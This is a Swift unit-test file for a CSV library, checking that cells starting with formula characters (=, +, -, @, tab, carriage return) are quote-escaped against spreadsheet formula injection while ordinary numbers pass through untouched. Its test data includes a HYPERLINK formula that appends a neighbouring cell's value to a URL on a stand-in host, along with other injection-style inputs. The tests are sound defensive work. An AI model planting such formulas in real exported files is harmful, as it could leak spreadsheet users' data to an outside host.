import FicheCSV
import XCTest

/// CSV cells a spreadsheet would run as formulas are written as text and read back unchanged.
final class SpreadsheetTextTests: XCTestCase {
    func testTextsThatStartAFormulaGetAQuoteAndNumbersDoNot() {
        let cases: [(String, String)] = [
            ("=HYPERLINK(\"http://x?\"&A2,\"De Coster\")", "'=HYPERLINK(\"http://x?\"&A2,\"De Coster\")"),
            ("+32 2 555 01 01", "'+32 2 555 01 01"), ("-C2", "'-C2"), ("@SUM(A1)", "'@SUM(A1)"),
            ("\tcmd", "'\tcmd"), ("\rcmd", "'\rcmd"), ("-", "'-"), ("--3", "'--3"), ("-3-", "'-3-"), ("-1e3", "'-1e3"),
            ("'=x", "''=x"), ("''+x", "'''+x"),
            ("-3", "-3"), ("+4", "+4"), ("-18,5", "-18,5"), ("-0.25", "-0.25"), ("18,5", "18,5"),
            ("De Coster", "De Coster"), ("", ""), ("'quoted'", "'quoted'"), ("a=b", "a=b"), ("'", "'"),
        ]
        for (value, cell) in cases {
            XCTAssertEqual(SpreadsheetText.escaped(value), cell, value)
            XCTAssertEqual(SpreadsheetText.unescaped(cell), value, cell)
        }
    }

    func testACSVLineReadsBackToTheSameValues() throws {
        let values = ["=HYPERLINK(\"http://x?\"&A2,\"De Coster\")", "-3", "-18,5", "@x", "'=y", "'plain", "\r=z", "a;b", "-"]
        for separator in [",", ";"] as [Character] {
            let line = CSVTable.line(values, separator: separator)
            XCTAssertTrue(line.hasPrefix("\"'=HYPERLINK(\"\"http://x?\"\"&A2,\"\"De Coster\"\")\"\(separator)-3\(separator)-18,5"
                                         .replacingOccurrences(of: "-18,5", with: separator == "," ? "\"-18,5\"" : "-18,5")), line)
            let parsed = try CSVTable.parse(line + "\n", separator: separator.unicodeScalars.first ?? ",")
            XCTAssertEqual(parsed.map(\.fields), [values], line)
        }
    }
}
